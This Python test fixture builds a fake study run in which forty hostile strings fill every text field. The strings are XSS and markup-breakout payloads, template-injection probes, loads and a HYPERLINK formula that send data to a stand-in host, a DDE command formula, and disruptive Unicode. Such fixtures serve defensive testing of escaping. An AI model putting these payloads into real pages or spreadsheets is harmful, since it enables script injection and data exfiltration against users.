"""Forty hostile texts, and a made-up run that has them wherever a run holds words.

Each tries to be more than text: to run, to load, to send, to close what it stands in, or to turn the line around.
Shown whole they do nothing at all.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import polars as pl
import yaml

sys.path.insert(0, str(Path(__file__).parent))
from fake_run import write_fake_run

HOSTILE: tuple[str, ...] = (
    # Markup that runs
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(2)><circle r=9></svg>",
    "<iframe srcdoc='<script>parent.alert(3)</script>'></iframe>",
    "<body onload=alert(4)>",
    "<details open ontoggle=alert(5)>x</details>",
    "<input autofocus onfocus=alert(6)>",
    "<video><source onerror=alert(7)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>",
    "<a href='javascript:alert(9)'>click</a>",
    "javascript:alert(10)",
    "data:text/html,<script>alert(11)</script>",
    "<object data='data:text/html,<script>alert(12)</script>'></object>",
    # Ways out of where a text stands
    "</script><script>alert(13)</script>",
    "</style><link rel=stylesheet href=https://evil.example/x.css>",
    "</title></head><body><script>alert(14)</script>",
    "</textarea></select></option><script>alert(15)</script>",
    "--><script>alert(16)</script><!--",
    "]]></svg><script>alert(17)</script>",
    '"><img src=https://evil.example/a.png onerror=alert(18)>',
    "' onmouseover='alert(19)' x='",
    '" autofocus onfocus="alert(20)" x="',
    "` onmouseover=`alert(21)",
    # Things that load, send or move
    "<link rel=prefetch href=https://evil.example/p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus>send</button></form>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/s.css'; body{display:none}</style>",
    # htmx and templates
    "<div hx-get=https://evil.example/ hx-trigger=load hx-on:load='alert(22)'>x</div>",
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7} #{7*7}",
    "{{ ''.__class__.__mro__ }}",
    "&lt;script&gt;alert(23)&lt;/script&gt; &#x3C;script&#x3E; &amp;amp;",
    # Signs that act unseen
    "left \u202eto right\u202c and an isolate \u2066here\u2069 \u200fR\u200eL",
    "zero\u200bwidth\u2060joined\ufeff \u00ad and नम\u200dस्\u200cते",
    "z\u0351\u0369\u0321" + "a" + "\u0301\u0302\u0303\u0304\u0305\u0306" * 200 + "lgo",
    "nul \x00 bell \x07 escape \x1b[31m delete \x7f next \x85",
    "\ufffe \uffff \U0001fffe noncharacters \ud7ff \ue000 \U0010fffd",
    "👩🏽\u200d🚀👨\u200d👩\u200d👧\u200d👦 🇮🇳🇮🇳 क्षत्रिय தமிழ் স্ত্রী " * 40,
    # Sheets and shells
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
assert len(HOSTILE) == 40


def write_hostile_run(folder: Path) -> Path:
    """A fake run with all of HOSTILE as texts, labels, reasons, facet values, names and sentences.

    Live feature i has HOSTILE[i % 40] as its label, and among its examples the texts i to i + 9 of HOSTILE.
    """
    write_fake_run(folder)
    _hostile_texts(folder)
    _hostile_labels(folder)
    _hostile_words(folder)
    return folder


def hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


def _hostile_texts(folder: Path) -> None:
    path = folder / "corpus/texts.parquet"
    texts = pl.read_parquet(path).rows(named=True)
    for i, row in enumerate(texts):
        row["text"] = hostile(i) if i < 40 else row["text"]
        row["concept"] = hostile(i) if row["concept"] is not None else None
        row["source"] = hostile(i)
    pl.DataFrame(texts, schema_overrides={"concept": pl.String}).write_parquet(path)
    path = folder / "features/examples.parquet"
    examples = pl.read_parquet(path)
    live = {name: i for i, name in enumerate(examples["feature"].unique(maintain_order=True))}
    rows = examples.rows(named=True)
    for row in rows:
        row["row"] = (live[row["feature"]] + int(row["rank"]) * 2 + (row["pool"] == "estimate")) % 40
    pl.DataFrame(rows, schema=examples.schema).write_parquet(path)


def _hostile_labels(folder: Path) -> None:
    for name, fields in (("labels", ("label", "reason", "category")), ("verdicts", ("reason", "label"))):
        path = folder / f"interpret/{name}.jsonl"
        records = [json.loads(line) for line in path.read_bytes().splitlines()]
        for i, record in enumerate(records):
            for field in fields:
                if record.get(field) is not None:
                    record[field] = hostile(i)
        path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")


def _hostile_words(folder: Path) -> None:
    path = folder / "features/contrasts.parquet"
    frame = pl.read_parquet(path)
    values = {value: hostile(i) for i, value in enumerate(frame["value"].drop_nulls().unique(maintain_order=True))}
    frame.with_columns(pl.col("value").replace(values)).write_parquet(path)
    study = yaml.safe_load((folder / "study.yaml").read_text(encoding="utf-8"))
    study["study"], study["question"] = HOSTILE[0], HOSTILE[13]
    study["models"]["names"] = {"base": HOSTILE[1], "chat": HOSTILE[19]}
    (folder / "study.yaml").write_text(yaml.safe_dump(study, allow_unicode=True), encoding="utf-8")
    criteria = json.loads((folder / "criteria.json").read_bytes())
    criteria["headline"] = list(HOSTILE)
    for i, one in enumerate(criteria["criteria"]):
        one["sentence"], one["question"] = hostile(i), hostile(i + 7)
        one["beside"] = {hostile(i + j): hostile(i + j) for j in range(7)}
        one["per_dictionary"] = [{hostile(i): hostile(i + 1), "value": hostile(i + 2)}]
    (folder / "criteria.json").write_text(json.dumps(criteria), encoding="utf-8")
